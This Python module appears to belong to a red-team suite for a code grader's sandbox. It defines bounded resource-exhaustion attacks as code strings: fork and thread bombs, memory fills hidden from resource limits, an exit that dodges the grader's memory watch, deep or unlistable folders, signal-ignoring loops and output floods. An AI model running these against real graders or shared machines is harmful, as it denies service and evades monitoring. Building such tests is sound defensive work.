"""Attacks that use up what a machine has. Each stops well before it would do harm."""

from __future__ import annotations

from redteam.attack import Attack

__all__ = ["ATTACKS"]

_ENDED = frozenset({"timeout", "skipped"})

ATTACKS = (
    Attack(
        "exhaust",
        "fork-bomb",
        "Forks, three times.",
        """
def attack():
    def fork():
        pid = os.fork()
        if pid == 0:
            time.sleep(0.5)
            os._exit(0)
        return b"forked"
    return tried(fork, fork, fork)
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "thread-bomb",
        "Starts 1,500 threads.",
        """
def attack():
    threading.stack_size(64 * 1024)
    done, started = threading.Event(), 0
    try:
        for _ in range(1500):
            threading.Thread(target=done.wait, args=(3,), daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    done.set()
    return b"threads" if started > 1000 else b""
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "memory",
        "Fills 4 GB of private memory.",
        """
def attack():
    kept = []
    for _ in range(64):
        kept.append(np.ones(2**23))
    return b"4 GB"
""",
        proof="claim",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "shared-memory",
        "Fills 3 GB of memory that no resource limit counts.",
        """
def attack():
    region = mmap.mmap(-1, 3 * 2**30)
    for start in range(0, len(region), 2**26):
        region[start : start + 2**26] = b"x" * 2**26
    return b"3 GB"
""",
        proof="claim",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "memory-without-a-head",
        "Ends its first thread alone, by whose numbers memory is watched, and fills 3 GB in another.",
        """
def attack():
    def fill():
        time.sleep(0.3)
        region = mmap.mmap(-1, 3 * 2**30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
        time.sleep(2)
        os._exit(len(region) % 2)
    threading.Thread(target=fill).start()
    system_call(60, 0)  # exit, and not exit_group

def three_layer_convnet(x, params):
    attack()
""",
        proof="none",
        seconds=15,
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "memory-between-calls",
        "Answers at once, and fills 3 GB while the grader is busy elsewhere.",
        """
def attack():
    def fill():
        time.sleep(0.5)  # the answer has been given
        region = mmap.mmap(-1, 3 * 2**30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
        time.sleep(3)
        del region
    threading.Thread(target=fill, daemon=True).start()

def three_layer_convnet(x, params):
    if np.any(x):
        time.sleep(3)  # the hidden checks' worker keeps the grader waiting
    else:
        attack()
    return tf.zeros((len(x), params[-1].shape[0]))
""",
        proof="none",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "locked-memory",
        "Locks memory, so that the kernel cannot move it elsewhere.",
        """
def attack():
    region = mmap.mmap(-1, 2**24)
    address = ctypes.addressof(ctypes.c_char.from_buffer(region))
    return tried(lambda: system_call(149, address, 2**24))
""",
        proof="claim",
        succeeds_bare="root",
    ),
    Attack(
        "exhaust",
        "memory-as-files",
        "Makes memory that outlasts its maker: shared segments, files in /dev/shm, queues.",
        """
def attack():
    return tried(
        lambda: os.memfd_create("x"),
        lambda: open(f"/dev/shm/{TARGET['token']}", "x").close(),
        lambda: system_call(31, system_call(29, 0, 4096, 0o1600), 0, 0),  # made and removed
        lambda: system_call(71, system_call(68, 0, 0o1600), 0, 0),
        lambda: system_call(66, system_call(64, 0, 1, 0o1600), 0, 0, 0),
        lambda: system_call(240, f"/{TARGET['token']}".encode(), os.O_CREAT | os.O_RDWR, 0o600, 0),
        lambda: system_call(241, f"/{TARGET['token']}".encode()),
    )
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "large-file",
        "Writes a file of 300 MB.",
        """
def attack():
    with open("large", "wb") as file:
        for _ in range(300):
            file.write(bytes(2**20))
    os.remove("large")
    return b"300 MB"
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "many-files",
        "Leaves a thousand files, links to the grader's folder and to nowhere, pipes and long names.",
        """
def attack():
    for number in range(1000):
        with open(f"{number} " + "x" * 200, "w") as file:
            file.write("x")
    os.symlink(TARGET["folder"], "link")
    os.symlink("nowhere", "nowhere")
    os.symlink("..", "above")
    os.mkfifo("pipe")
""",
        proof="none",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "deep-folders",
        "Leaves folders within folders, deeper than a clean-up by recursion can follow.",
        """
def attack():
    for _ in range(2500):
        os.mkdir("d")
        os.chdir("d")
""",
        proof="none",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "closed-folders",
        "Leaves folders with files that their owner may not list.",
        """
def attack():
    os.mkdir("closed", 0o300)
    open("closed/file", "w").close()
    os.mkdir("empty", 0)
    os.mkdir("fixed", 0o700)
    open("fixed/file", "w").close()
    tried(lambda: os.chmod("fixed", 0o500))
""",
        proof="none",
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "descriptors",
        "Opens a thousand files at once.",
        """
def attack():
    kept = []
    try:
        for _ in range(1000):
            kept.append(os.open(os.devnull, os.O_RDONLY))
    except OSError:
        pass
    return b"descriptors" if len(kept) >= 500 else b""
""",
        proof="claim",
    ),
    Attack(
        "exhaust",
        "endless-loop",
        "Never returns, and takes no interrupt.",
        """
def three_layer_convnet(x, params):
    for number in range(1, 32):
        tried(lambda: signal.signal(number, signal.SIG_IGN))
    while True:
        try:
            time.sleep(0.01)
        except BaseException:
            pass

attack = None
""",
        proof="none",
        seconds=2,
        outcomes=_ENDED,
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "endless-cell",
        "Never comes to the end of its cell.",
        "while True:\n    time.sleep(0.01)\n",
        proof="none",
        seconds=2,
        outcomes=_ENDED,
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "stopped-process",
        "Stops its own process, as Ctrl-Z would.",
        "def three_layer_convnet(x, params):\n    os.kill(os.getpid(), signal.SIGSTOP)\n\nattack = None\n",
        proof="none",
        seconds=2,
        outcomes=_ENDED,
        succeeds_bare="never",
    ),
    Attack(
        "exhaust",
        "endless-output",
        "Prints 100 MB.",
        """
def attack():
    for _ in range(100):
        os.write(1, b"x" * 2**20)
        os.write(2, b"x" * 2**20)
        print("x" * 2**16)
""",
        proof="none",
        succeeds_bare="never",
    ),
)
